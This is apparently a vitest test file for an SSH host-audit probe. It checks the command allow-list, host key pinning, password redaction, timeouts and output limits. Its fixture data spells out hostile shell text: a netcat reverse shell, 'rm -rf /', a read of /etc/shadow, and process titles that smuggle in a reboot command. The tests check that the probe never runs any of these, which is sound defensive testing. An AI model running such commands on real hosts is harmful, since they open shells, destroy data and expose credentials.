import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ssh2 from 'ssh2';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hardenedDebian } from '../../fixtures/host/images/hardened-debian.ts';
import type { HostImage } from '../../fixtures/host/images/types.ts';
import { startHostReplayFixture } from '../../fixtures/host/replay-server.ts';
import { runProbe } from '../run.ts';
import { testContext } from '../test-kit.ts';
import type { Transcript } from '../transcript.ts';
import type { ProbeContext, ProbeOutcome } from '../types.ts';
import { commandLine, HOST_COMMANDS, listenerConfigCommand } from './commands.ts';
import { HostFacts } from './facts.ts';
import { knownHostName, knownHostsLine } from '../ssh/known-hosts.ts';
import { hostCommandsProbe } from './probe.ts';
import type { HostCredential } from './session.ts';
import { testAddress } from '../../test/addresses.ts';
import { ed25519KeyPair } from '../../fixtures/ssh/key-pair.ts';

const HOST = testAddress('hostProbe', 1);
const USER = 'cellcheck';
const PASSWORD = 'Pl4nt-S3cret!';
const client = ed25519KeyPair();
const dir = mkdtempSync(join(tmpdir(), 'cellcheck-host-probe-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

type Fixture = Awaited<ReturnType<typeof startHostReplayFixture>>;

function pinFor(f: Fixture): string {
  const key = ssh2.utils.parseKey(f.hostKey);
  if (key instanceof Error) throw key;
  const k = Array.isArray(key) ? key[0] : key;
  if (!k) throw new Error('no host key');
  return knownHostsLine(knownHostName(HOST, f.ports.ssh ?? 0), k.getPublicSSH());
}

function context(f: Fixture, credential: Partial<HostCredential>, stepTimeoutMs = 2000): ProbeContext {
  const cred: HostCredential = {
    user: USER,
    privateKey: client.private,
    knownHostsFile: join(dir, 'unused'),
    knownHosts: pinFor(f),
    recordFirstUse: false,
    sudo: [],
    ...credential,
  };
  return testContext(HOST, f.ports.ssh ?? 0, { stepTimeoutMs, options: { credential: cred } });
}

const facts = (o: ProbeOutcome) => HostFacts.parse(o.status === 'ok' ? o.facts : undefined);

async function withFixture<T>(image: HostImage, run: (f: Fixture) => Promise<T>, extra: { password?: string } = {}): Promise<T> {
  const f = await startHostReplayFixture({ host: HOST, image, user: USER, authorizedKey: client.public, ...extra });
  try {
    return await run(f);
  } finally {
    await f.close();
  }
}

/** The lines the probe sends to a host whose primary commands all answer: every non-fallback entry, in order. */
const PRIMARY_LINES = HOST_COMMANDS.filter((c) => c.fallbackFor === undefined).map((c) => c.command);

describe('host.commands against a replayed hardened Debian host', () => {
  let outcome: ProbeOutcome;
  let fixture: Fixture;
  let transcript: Transcript;
  beforeAll(async () => {
    fixture = await startHostReplayFixture({ host: HOST, image: hardenedDebian, user: USER, authorizedKey: client.public });
    const ctx = context(fixture, { sudo: ['audit-rules', 'audit-config', 'account-status', 'firewall-nft'] });
    transcript = ctx.transcript;
    outcome = await runProbe(hostCommandsProbe, ctx);
  });
  afterAll(() => fixture.close());

  it('logs in once with the key and runs the allow-list, sudo only where configured', () => {
    expect(outcome.status).toBe('ok');
    const f = facts(outcome);
    expect(f.hostKey.trust).toBe('pinned');
    expect(fixture.log.connections).toBe(1);
    expect(fixture.log.kinds('auth')).toEqual(['ssh.auth.publickey', 'ssh.auth.publickey']);
    expect(fixture.log.count('write')).toBe(0);
    const sudo = new Set(['audit-rules', 'audit-config', 'account-status', 'firewall-nft']);
    // ss answered, so netstat never runs; sshd -T failed, so the config files are read instead.
    const expected = HOST_COMMANDS.filter((c) => c.fallbackFor === undefined || c.id === 'sshd-config').map((c) => commandLine(c, sudo.has(c.id)));
    expect(fixture.execs).toEqual(expected);
    expect(f.commands.map((c) => c.line)).toEqual(expected);
  });

  it('classifies each answer and parses what came back', () => {
    const f = facts(outcome);
    const status = Object.fromEntries(f.commands.map((c) => [c.id, c.status]));
    expect(status).toMatchObject({
      'os-release': 'ok',
      units: 'ok',
      'audit-rules': 'ok',
      'sshd-effective': 'failed',
      'sshd-config': 'ok',
      'chrony-tracking': 'ok',
      packages: 'ok',
    });
    expect(f.commands.find((c) => c.id === 'os-release')?.data).toMatchObject({ id: 'debian', versionId: '12' });
    expect(f.commands.find((c) => c.id === 'audit-rules')?.data).toEqual({ rules: 5 });
  });

  it('records every command and reply in the transcript, with the passwd field masked', () => {
    const tx = transcript.entries().filter((e) => e.op === 'host.exec');
    expect(tx.map((e) => e.text)).toEqual(facts(outcome).commands.map((c) => c.line));
    expect(transcript.entries().filter((e) => e.op === 'host.output')).toHaveLength(tx.length);
    expect(JSON.stringify(transcript.entries())).not.toContain('PRIVATE KEY');
  });

  it('keeps process command lines only of the daemons it judges', () => {
    const procs = facts(outcome).commands.find((c) => c.id === 'processes')?.data as { processes: { name: string; args?: string }[] };
    expect(procs.processes.find((p) => p.name === 'rsyslogd')?.args).toBe('/usr/sbin/rsyslogd -n -iNONE');
    expect(JSON.stringify(procs)).not.toContain('s3cret');
  });
});

describe('the allow-list cannot be bypassed', () => {
  const hostile = '$(reboot)`shutdown -h now`; rm -rf / && nc -e /bin/sh 10.0.0.1 4444 | sh\nsudo -n cat /etc/shadow\n';
  const image: HostImage = {
    description: 'hostile host answering every command with shell text',
    replies: Object.fromEntries(HOST_COMMANDS.map((c) => [c.id, { stdout: `${hostile}${c.id}=${hostile}`, stderr: hostile, exit: 127 }])),
  };

  it('sends only allow-listed lines whatever the device answers', async () => {
    const { execs, writes, outcome } = await withFixture(image, async (f) => {
      const outcome = await runProbe(hostCommandsProbe, context(f, {}));
      return { execs: [...f.execs], writes: f.log.count('write'), outcome };
    });
    expect(outcome.status).toBe('ok');
    expect(writes).toBe(0);
    const lines = new Set(HOST_COMMANDS.map((c) => c.command));
    expect(execs.every((line) => lines.has(line))).toBe(true);
    expect(execs).toEqual(facts(outcome).commands.map((c) => c.line));
    // Fallbacks ran where the hostile text was not in the expected format, and only those.
    expect(execs).toContain('netstat -tulpn');
    expect(execs.length).toBeGreaterThan(PRIMARY_LINES.length);
  });

  it('refuses to run anything that is not an allow-list entry', async () => {
    const { HostSession } = await import('./session.ts');
    await withFixture(hardenedDebian, async (f) => {
      const ctx = context(f, {});
      const { session } = await HostSession.open(ctx, 'test', ctx.options.credential as HostCredential);
      try {
        const forged = { ...HOST_COMMANDS[0], command: 'reboot' } as (typeof HOST_COMMANDS)[number];
        await expect(session.run(forged, false)).rejects.toThrow(/not on the host allow-list/);
      } finally {
        await session.close();
      }
      expect(f.execs).toEqual([]);
    });
  });
});

describe('sshd started with its own config file', () => {
  const PLANT = '/etc/ssh/sshd_plant_config';
  const processes = [
    'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups',
    `sshd: /usr/sbin/sshd -D -f ${PLANT} [listener] 0 of 10-100 startups`,
    // Process titles anyone on the host can set: none of these may become a command.
    'sshd -f /etc/shadow',
    'sshd -f /tmp/sshd$(reboot)',
    'sshd -f /etc/ssh/sshd_x;reboot',
    'sshd -f ../etc/ssh/sshd_config',
    'sshd -f /etc/ssh/../ssh/sshd_config',
  ].join('\n');
  const image: HostImage = {
    ...hardenedDebian,
    replies: { ...hardenedDebian.replies, processes: { stdout: `${processes}\n` } },
    files: { [PLANT]: { stdout: 'Port 2222\nListenAddress 10.0.0.5:2223\nBanner /etc/issue.net\nPasswordAuthentication no\n' } },
  };

  it('reads the file named by -f with cat, and nothing a hostile process title names', async () => {
    const { execs, writes, outcome, notes } = await withFixture(image, async (f) => {
      const ctx = context(f, {});
      const outcome = await runProbe(hostCommandsProbe, ctx);
      const notes = ctx.transcript
        .entries()
        .filter((e) => e.op === 'host.skipped')
        .map((e) => e.text);
      return { execs: [...f.execs], writes: f.log.count('write'), outcome, notes };
    });
    expect(writes).toBe(0);
    const listed = new Set(HOST_COMMANDS.map((c) => c.command));
    expect(execs.filter((l) => !listed.has(l))).toEqual([`cat ${PLANT}`]);
    expect(facts(outcome).commands.at(-1)).toMatchObject({
      id: 'sshd-listener-config',
      file: PLANT,
      status: 'ok',
      data: { settings: { banner: '/etc/issue.net', passwordauthentication: 'no' }, ports: [2222, 2223], includes: [] },
    });
    expect(notes).toHaveLength(5);
  });

  it('builds a read only for plain absolute paths whose name says sshd', () => {
    expect(listenerConfigCommand('/etc/ssh/sshd_config.plant')?.command).toBe('cat /etc/ssh/sshd_config.plant');
    for (const bad of [
      '/etc/passwd',
      'sshd_config',
      '/etc/ssh/sshd config',
      '/etc/ssh/-sshd',
      '/etc/./sshd',
      "/etc/ssh/sshd'x",
      '/etc/ssh/sshd*',
      `/${'a'.repeat(300)}/sshd`,
    ])
      expect(listenerConfigCommand(bad), bad).toBeUndefined();
  });
});

describe('host key pinning', () => {
  it('sends no credential to a host whose key does not match the pin', async () => {
    const other = ed25519KeyPair();
    const result = await withFixture(hardenedDebian, async (f) => {
      const parsed = ssh2.utils.parseKey(other.public);
      if (parsed instanceof Error || Array.isArray(parsed)) throw new Error('key');
      const pin = knownHostsLine(knownHostName(HOST, f.ports.ssh ?? 0), parsed.getPublicSSH());
      const outcome = await runProbe(hostCommandsProbe, context(f, { knownHosts: pin }));
      return { outcome, auth: f.log.count('auth'), execs: f.execs.length };
    });
    expect(result.outcome.status).toBe('unavailable');
    expect(result.outcome.status === 'unavailable' && result.outcome.failure).toMatchObject({ kind: 'denied' });
    expect(result.auth).toBe(0);
    expect(result.execs).toBe(0);
  });

  it('refuses an unknown host unless first-use recording is on, then records and pins it', async () => {
    const file = join(dir, 'known_hosts');
    writeFileSync(file, '# pins\n');
    await withFixture(hardenedDebian, async (f) => {
      const refused = await runProbe(hostCommandsProbe, context(f, { knownHosts: '', knownHostsFile: file }));
      expect(refused.status === 'unavailable' && refused.failure.detail).toMatch(/not in the known_hosts file/);
      const recorded = await runProbe(hostCommandsProbe, context(f, { knownHosts: '', knownHostsFile: file, recordFirstUse: true }));
      expect(facts(recorded).hostKey.trust).toBe('recorded');
      const pinned = await runProbe(hostCommandsProbe, context(f, { knownHosts: readFileSync(file, 'utf8'), knownHostsFile: file }));
      expect(facts(pinned).hostKey.trust).toBe('pinned');
      expect(readFileSync(file, 'utf8')).toBe(`# pins\n${pinFor(f)}`);
    });
  });
});

describe('passwords and limits', () => {
  it('logs in with a password and keeps it out of facts and transcript even when the device echoes it', async () => {
    const echo: HostImage = { ...hardenedDebian, replies: { ...hardenedDebian.replies, kernel: { stdout: `Linux ${PASSWORD} x86_64\n` } } };
    const { outcome, transcript } = await withFixture(
      echo,
      async (f) => {
        const ctx = context(f, { privateKey: undefined, password: PASSWORD } as Partial<HostCredential>);
        delete (ctx.options.credential as { privateKey?: string }).privateKey;
        return { outcome: await runProbe(hostCommandsProbe, ctx), transcript: ctx.transcript };
      },
      { password: PASSWORD },
    );
    expect(outcome.status).toBe('ok');
    expect(JSON.stringify(outcome)).not.toContain(PASSWORD);
    expect(JSON.stringify(transcript.entries())).not.toContain(PASSWORD);
    expect(JSON.stringify(transcript.entries())).not.toContain(Buffer.from(PASSWORD).toString('hex'));
    expect(facts(outcome).commands.find((c) => c.id === 'kernel')?.data).toMatchObject({ release: '[redacted]' });
  });

  it('reports refused credentials as auth-required, without running anything', async () => {
    const result = await withFixture(
      hardenedDebian,
      async (f) => {
        const ctx = context(f, { password: 'wrong' });
        delete (ctx.options.credential as { privateKey?: string }).privateKey;
        return { outcome: await runProbe(hostCommandsProbe, ctx), execs: f.execs.length };
      },
      { password: PASSWORD },
    );
    expect(result.outcome.status === 'unavailable' && result.outcome.failure.kind).toBe('auth-required');
    expect(result.execs).toBe(0);
  });

  it('times out one slow command and goes on with the next', async () => {
    const slow: HostImage = { ...hardenedDebian, replies: { ...hardenedDebian.replies, kernel: { stdout: 'Linux 6.1 x86_64\n', delayMs: 3000 } } };
    const outcome = await withFixture(slow, (f) => runProbe(hostCommandsProbe, context(f, {}, 300)));
    const f = facts(outcome);
    expect(f.commands.find((c) => c.id === 'kernel')?.status).toBe('timeout');
    expect(f.commands.find((c) => c.id === 'listening')?.status).toBe('ok');
  });

  it('cuts output at the command limit and parses only complete lines', async () => {
    const many = Array.from({ length: 60_000 }, (_, i) => `pkg${i}\t1.0-${i}\n`).join('');
    const big: HostImage = { ...hardenedDebian, replies: { ...hardenedDebian.replies, packages: { stdout: many } } };
    const outcome = await withFixture(big, (f) => runProbe(hostCommandsProbe, context(f, {})));
    const run = facts(outcome).commands.find((c) => c.id === 'packages');
    const limit = HOST_COMMANDS.find((c) => c.id === 'packages')?.maxBytes ?? 0;
    expect(run).toMatchObject({ status: 'ok', truncated: true, bytes: limit });
    const pkgs = (run?.data as { packages: { name: string; version: string }[] } | undefined)?.packages ?? [];
    expect(pkgs.length).toBeLessThan(60_000);
    expect(pkgs.at(-1)?.version).toMatch(/^1\.0-\d+$/);
    expect(pkgs.every((p, i) => p.name === `pkg${i}`)).toBe(true);
  });
});

describe('the allow-list data', () => {
  it('holds plain argv lines: nothing outside single quotes a shell would chain, redirect or substitute', () => {
    for (const c of HOST_COMMANDS) {
      const unquoted = c.command.replace(/'[^']*'/g, '');
      expect(unquoted, c.id).not.toMatch(/[;&|<>`$()\\\n]/);
    }
  });

  it('has unique ids, a parser for each, and fallbacks that name an earlier command', async () => {
    const { HOST_PARSERS } = await import('./parsers.ts');
    const ids = HOST_COMMANDS.map((c) => c.id);
    expect(new Set(ids).size).toBe(ids.length);
    HOST_COMMANDS.forEach((c, i) => {
      expect(HOST_PARSERS[c.parser], c.id).toBeDefined();
      if (c.fallbackFor) expect(ids.slice(0, i), c.id).toContain(c.fallbackFor);
    });
    expect(PRIMARY_LINES.length).toBeGreaterThan(10);
  });
});
